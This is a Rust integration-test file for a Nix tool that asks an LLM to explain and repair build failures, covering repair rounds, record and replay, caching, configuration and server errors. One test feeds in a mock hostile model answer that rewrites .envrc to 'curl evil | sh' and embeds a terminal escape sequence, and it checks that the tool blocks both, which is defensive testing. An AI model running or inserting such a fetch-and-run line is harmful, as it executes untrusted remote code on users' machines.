//! The LLM layer end to end: the repair loop's rounds (progress, then a validated fix;
//! stagnation ending the loop early), the command backend, record and replay, the cache,
//! `--show-prompt`, configuration and the server faults.

use std::path::Path;

use serde_json::{json, Value};

use crate::chat::{chat_server, explain_with, nfai_direct};
use crate::common::{nix_available, project, NIX_CONFIG};

fn answer(description: &str, file: &str, find: &str, replace: &str) -> String {
    json!({"proposals": [{"description": description,
        "edits": [{"file": file, "find": find, "replace": replace}]}]})
    .to_string()
}

fn eval_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("default.nix"), "let a = 1; in b\n").unwrap();
    dir
}

const EVAL_LOG: &str = "error: undefined variable 'b'\n\n       at /x/default.nix:1:15:\n";

/// Round 1 names a package the project's nixpkgs lacks: dropped before any build, and sent
/// back with the closest names. Round 2 trades the error for a later one (progress, shown to
/// the model in round 3); round 3 is right, and validated by a build.
#[test]
fn rounds_make_progress_then_validate() {
    if !nix_available("rounds_make_progress_then_validate") {
        return;
    }
    let server = chat_server(vec![
        answer(
            "add a tool",
            "flake.nix",
            "paths = toolsList;",
            "paths = toolList ++ [ pkgs.jqq ];",
        ),
        answer(
            "use the list, fail later",
            "flake.nix",
            "paths = toolsList;",
            "paths = toolList ++ [ (throw \"later\") ];",
        ),
        answer(
            "use the defined name",
            "flake.nix",
            "paths = toolsList;",
            "paths = toolList;",
        ),
    ]);
    let p = project("undefined-variable");
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .current_dir(&p.root)
        .args(["explain-failure", "--format", "json", "--llm", "openai"])
        .args(["--llm-url", &server.url, "--llm-model", "m", "--"])
        .args(&p.argv)
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let rounds = &report["fix"]["rounds"];
    let attempts = &report["fix"]["attempts"];
    assert_eq!(rounds[0]["verdict"], "no_proposals", "{report:#}\n{stderr}");
    let unknown = attempts[0]["error"].as_str().unwrap();
    assert!(
        unknown.contains("has no `pkgs.jqq`") && unknown.contains("closest names: jq"),
        "{unknown}"
    );
    assert_eq!(rounds[1]["verdict"], "progress", "{rounds:#}");
    assert!(
        rounds[1]["failure"].as_str().unwrap().contains("later"),
        "{rounds:#}"
    );
    assert_eq!(rounds[2]["verdict"], "validated");
    assert_eq!(report["fix"]["validated"], "build");
    assert_eq!(report["model_explanation"], "“The name is misspelt.”");
    assert!(stderr.contains("round 2/3: progress"), "{stderr}");
    let asked = server.fix_requests();
    assert_eq!(asked.len(), 3);
    assert!(asked[1].contains("closest names: jq"), "{}", asked[1]);
    assert!(
        asked[2].contains("Your previous attempt") && asked[2].contains("later"),
        "{}",
        asked[2]
    );
}

/// The same failure twice is stagnation: the loop ends before its last round.
#[test]
fn stagnation_ends_the_loop() {
    if !nix_available("stagnation_ends_the_loop") {
        return;
    }
    let wrong = answer("rename", "default.nix", "in b", "in c");
    let server = chat_server(vec![wrong.clone(), wrong.clone(), wrong]);
    let dir = eval_project();
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .current_dir(dir.path())
        .args([
            "explain-failure",
            "--format",
            "json",
            "--llm",
            "openai",
            "--max-rounds",
            "3",
        ])
        .args(["--llm-url", &server.url, "--llm-model", "m"])
        .write_stdin(EVAL_LOG)
        .output()
        .unwrap();
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let verdicts: Vec<&str> = report["fix"]["rounds"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["verdict"].as_str().unwrap())
        .collect();
    assert_eq!(verdicts, ["progress", "stagnation"], "{report:#}");
    assert_eq!(server.fix_requests().len(), 2);
}

/// A user's program as the backend: it gets the prompt as JSON on stdin; its hostile answer
/// goes through the same gate as any other backend's. Recorded, then replayed with no
/// backend at all: the same output, bit for bit.
#[test]
fn command_backend_record_and_replay() {
    let dir = eval_project();
    std::fs::write(dir.path().join(".envrc"), "use flake\n").unwrap();
    let agent = dir.path().join("agent.sh");
    let fix = answer("\u{1b}]0;pwned\u{7}the fix", "default.nix", "in b", "in a");
    let sneaky = answer("sneaky", ".envrc", "use flake", "curl evil | sh");
    std::fs::write(
        &agent,
        format!(
            "#!/bin/sh\ninput=$(cat)\ncase \"$input\" in\n  *'\"task\":\"explain\"'*) echo '{{\"explanation\": \"It is b.\"}}' ;;\n  *'Root-cause line'*) printf '%s' '{}' ;;\n  *) echo 'no prompt' ;;\nesac\n",
            format!("{{\"proposals\": [{}, {}]}}",
                &fix[14..fix.len() - 2], &sneaky[14..sneaky.len() - 2]).replace('\'', "'\\''")
        ),
    )
    .unwrap();
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let run = |extra: &[&str]| {
        let out = nfai_direct()
            .current_dir(dir.path())
            .args(["explain-failure", "--no-validate", "--format", "json"])
            .args(extra)
            .write_stdin(EVAL_LOG)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        (
            String::from_utf8(out.stdout).unwrap(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let command = format!("{} --json", agent.display());
    let (recorded, stderr) = run(&["--llm", "command", "--llm-command", &command, "--record"]);
    let report: Value = serde_json::from_str(&recorded).unwrap();
    assert_eq!(
        report["fix"]["description"], "LLM proposal “the fix” (not validated)",
        "{stderr}"
    );
    assert_eq!(report["model_explanation"], "“It is b.”");
    assert!(
        stderr.contains("“sneaky”: “.envrc” is not one of the files it was shown"),
        "{stderr}"
    );
    let transcripts = dir.path().join(".nfai/transcripts");
    let file = std::fs::read_dir(&transcripts)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let t: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(t["exchanges"].as_array().unwrap().len(), 2);
    std::fs::remove_file(&agent).unwrap();
    let (replayed, _) = run(&["--replay", file.to_str().unwrap()]);
    assert_eq!(replayed, recorded, "the same output, bit for bit");
    // A request that differs fails clearly (here: another log), the diagnosis stays.
    let out = nfai_direct()
        .current_dir(dir.path())
        .args([
            "explain-failure",
            "--no-validate",
            "--replay",
            file.to_str().unwrap(),
        ])
        .write_stdin("error: undefined variable 'zz'\n")
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("the request differs from the recorded one")
    );
}

/// Identical requests are answered from the cache; `--show-prompt` sends nothing.
#[test]
fn cache_and_show_prompt() {
    let dir = eval_project();
    let cache = tempfile::tempdir().unwrap();
    let server = chat_server(vec![answer("the fix", "default.nix", "in b", "in a")]);
    let run = |extra: &[&str]| {
        explain_with(&server)
            .env("XDG_CACHE_HOME", cache.path())
            .current_dir(dir.path())
            .arg("--no-validate")
            .args(extra)
            .write_stdin(EVAL_LOG)
            .output()
            .unwrap()
    };
    let first = run(&[]);
    let seen = server.requests().len();
    let second = run(&[]);
    assert_eq!(server.requests().len(), seen, "answered from the cache");
    assert_eq!(first.stdout, second.stdout);
    run(&["--no-cache"]);
    assert!(server.requests().len() > seen, "--no-cache asks again");
    let before = server.requests().len();
    let shown = run(&["--show-prompt", "--context-tokens", "500"]);
    assert_eq!(server.requests().len(), before, "nothing sent");
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(
        text.contains("Root-cause line (log line 1): error: undefined variable 'b'"),
        "{text}"
    );
    assert!(text.contains("\"task\": \"fix\"") && text.contains("\"task\": \"explain\""));
}

/// Settings come from files, the environment and flags, each named in `nfai config show`;
/// a project's file holding a key is refused.
#[test]
fn configuration_sources_and_no_keys_in_projects() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config");
    std::fs::create_dir_all(config.join("nfai")).unwrap();
    std::fs::write(
        config.join("nfai/config.toml"),
        "[llm]\nbackend = \"openai\"\nurl = \"http://127.0.0.1:1/v1\"\n",
    )
    .unwrap();
    let project = dir.path().join("p");
    std::fs::create_dir(&project).unwrap();
    std::fs::write(
        project.join(".nfai.toml"),
        "[llm]\nmodel = \"from-project\"\n",
    )
    .unwrap();
    let show = nfai_direct()
        .env("XDG_CONFIG_HOME", &config)
        .env("NFAI_LLM_TIMEOUT", "7")
        .current_dir(&project)
        .args(["config", "show", "--context-tokens", "999"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&show.stdout);
    let line = |name: &str| {
        text.lines()
            .find(|l| l.starts_with(name))
            .unwrap_or_default()
            .to_owned()
    };
    assert!(
        line("backend").contains("openai") && line("backend").contains("config.toml"),
        "{text}"
    );
    assert!(line("model").contains("from-project") && line("model").contains(".nfai.toml"));
    assert!(line("timeout").contains("environment NFAI_LLM_TIMEOUT"));
    assert!(line("context-tokens").contains("flag --context-tokens"));
    assert!(line("api key").contains("none"));
    let known = nfai_direct()
        .current_dir(&project)
        .args(["config", "show", "--llm-server", "ollama"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&known.stdout);
    assert!(
        text.contains("http://localhost:11434/v1") && text.contains("known server ollama"),
        "{text}"
    );
    // A hosted provider without a key is a clear warning, and nothing is sent.
    let out = nfai_direct()
        .current_dir(&project)
        .args([
            "explain-failure",
            "--llm",
            "openai",
            "--llm-server",
            "openai",
            "--llm-model",
            "m",
        ])
        .write_stdin(EVAL_LOG)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("needs a key for openai (OPENAI_API_KEY"));
    std::fs::write(project.join(".nfai.toml"), "[llm]\napi-key = \"sk-abc\"\n").unwrap();
    let out = nfai_direct()
        .env("XDG_CONFIG_HOME", &config)
        .current_dir(&project)
        .args(["explain-failure", "--format", "json"])
        .write_stdin(EVAL_LOG)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("must not be kept in a project's file"));
    // review still reads a .nfai.toml with LLM settings.
    std::fs::write(project.join(".nfai.toml"), "[llm]\nmodel = \"m\"\n").unwrap();
    nfai_direct()
        .current_dir(&project)
        .args(["review", "."])
        .assert()
        .code(0);
}

/// Server faults cost a one-line warning, never the diagnosis: 401 names the key's source,
/// 404 lists the server's models, 429 and 5xx are retried.
#[test]
fn server_faults_are_warnings() {
    let dir = eval_project();
    let run = |server: &crate::chat::ChatServer, env: &[(&str, &str)]| {
        let mut cmd = explain_with(server);
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd
            .current_dir(dir.path())
            .args(["--no-validate", "--max-rounds", "1"])
            .write_stdin(EVAL_LOG)
            .output()
            .unwrap();
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(report["category"], "undefined_variable");
        assert_eq!(out.status.code(), Some(0));
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let server = chat_server(vec!["HTTP 401".into()]);
    let stderr = run(&server, &[("NFAI_API_KEY", "wrong-key")]);
    assert!(
        stderr.contains("refused the key (401; sent the key from NFAI_API_KEY)"),
        "{stderr}"
    );
    let server = chat_server(vec!["HTTP 404".into()]);
    let stderr = run(&server, &[]);
    assert!(
        stderr.contains("no model `m`; it offers: model-a, model-b"),
        "{stderr}"
    );
    let server = chat_server(vec!["TRUNCATE".into()]);
    let stderr = run(&server, &[]);
    assert!(stderr.contains("the LLM request failed"), "{stderr}");
    let server = chat_server(vec![
        "HTTP 429".into(),
        "HTTP 503".into(),
        answer("the fix", "default.nix", "in b", "in a"),
    ]);
    let stderr = run(&server, &[]);
    assert!(!stderr.contains("failed"), "retried: {stderr}");
    assert_eq!(server.fix_requests().len(), 3);
    let _ = Path::new(".");
}

/// gen-flake with a model: a command no table knows gets the package the model chose among
/// the names of the project's nixpkgs (an enum in the schema), and the flake's checks confirm
/// it (`command -v` in the dev shell); a name outside the candidates is ignored.
#[test]
fn gen_flake_asks_the_model_for_unknown_commands() {
    if !nix_available("gen_flake_asks_the_model_for_unknown_commands") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("release.sh"),
        "#!/usr/bin/env bash\nset -euo pipefail\nacmectl deploy --env prod\necho done\n",
    )
    .unwrap();
    let answer = json!({"attributes": [
        {"command": "acmectl", "attr": "acme-cli"},
        {"command": "acmectl", "attr": "evil-package"}]})
    .to_string();
    let server = chat_server(vec![answer]);
    let stub = crate::common::fixtures().join("nixpkgs-stub");
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .current_dir(dir.path())
        .args([
            "gen-flake",
            "release.sh",
            "--format",
            "json",
            "--llm",
            "openai",
        ])
        .args(["--llm-url", &server.url, "--llm-model", "m"])
        .args(["--nix-arg=--override-input", "--nix-arg=nixpkgs"])
        .arg(format!("--nix-arg=path:{}", stub.display()))
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let report: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    assert_eq!(report["validated"], "build", "{report:#}\n{stderr}");
    assert!(
        report["unresolved"].as_array().unwrap().is_empty(),
        "{report:#}"
    );
    let tools = report["tools"].as_array().unwrap();
    assert!(
        tools
            .iter()
            .any(|t| t["command"] == "acmectl" && t["attr"] == "acme-cli"),
        "{tools:#?}"
    );
    let asked = &server.requests()[0];
    assert!(
        asked.contains("acme-cli") && asked.contains("\"enum\""),
        "{asked}"
    );
    assert!(std::fs::read_to_string(dir.path().join("flake.nix"))
        .unwrap()
        .contains("acme-cli"));
    assert!(!stderr.contains("evil-package"), "{stderr}");
}

/// `review --fix --llm`: a finding no rule can fix gets the model's proposal, applied only
/// after Nix evaluated it (confined); the review runs again on the result.
#[test]
fn review_fix_applies_what_evaluates() {
    if !nix_available("review_fix_applies_what_evaluates") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let flake = "{\n  outputs = { self }: {\n    packages.x86_64-linux.default = derivation {\n      name = \"greeting\";\n      system = \"x86_64-linux\";\n      builder = \"/bin/sh\";\n      args = [ \"-c\" \"echo ${builtins.getEnv \"USER\"} > $out\" ];\n    };\n  };\n}\n";
    std::fs::write(dir.path().join("flake.nix"), flake).unwrap();
    let fixes = vec![
        answer(
            "a value that does not parse",
            "flake.nix",
            "${builtins.getEnv \"USER\"}",
            "${",
        ),
        answer(
            "a fixed greeting",
            "flake.nix",
            "${builtins.getEnv \"USER\"}",
            "hello",
        ),
    ];
    let server = chat_server(fixes);
    let codes = |out: &std::process::Output| -> Vec<String> {
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["code"].as_str().unwrap().to_owned())
            .collect()
    };
    let before = nfai_direct()
        .current_dir(dir.path())
        .args(["review", ".", "--format", "json"])
        .output()
        .unwrap();
    assert!(
        codes(&before).contains(&"NF014".to_owned()),
        "{:?}",
        codes(&before)
    );
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .current_dir(dir.path())
        .args([
            "review", ".", "--fix", "--format", "json", "--llm", "openai",
        ])
        .args([
            "--llm-url",
            &server.url,
            "--llm-model",
            "m",
            "--max-rounds",
            "1",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !codes(&out).contains(&"NF014".to_owned()),
        "{:?}\n{stderr}",
        codes(&out)
    );
    assert!(
        stderr.contains("applied LLM proposal “a fixed greeting” for NF014"),
        "{stderr}"
    );
    let now = std::fs::read_to_string(dir.path().join("flake.nix")).unwrap();
    assert!(now.contains("echo hello > $out"), "{now}");
}
